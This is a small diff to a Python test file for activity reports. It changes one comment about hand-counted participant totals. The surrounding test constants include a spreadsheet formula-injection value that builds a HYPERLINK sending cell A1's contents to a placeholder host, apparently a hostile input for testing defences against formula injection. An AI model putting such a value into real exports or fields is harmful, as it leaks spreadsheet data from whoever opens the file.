@@ -45,7 +45,7 @@ from tests.reports.report_samples import DAYS, add_activity, add_head_count, add
 SYMPOSIUM_DAY = dt.date(2022, 11, 15)
 HOSTILE_DAYS = (dt.date(2022, 10, 10), dt.date(2022, 10, 11))
 HOSTILE_ORG = '=HYPERLINK("http://example.org/?"&A1,"x")'
-# Counted by hand (DOMAIN.md rules, youth under 30) from `_record_activities`:
+# Counted by hand (docs/domain.md's rules, youth under 30) from `_record_activities`:
 # training 8 (4 named + a head count of 4), symposium 154 (3 named + 151), workshop 2.
 BY_HAND = {
     "participants": 8 + 154 + 2,
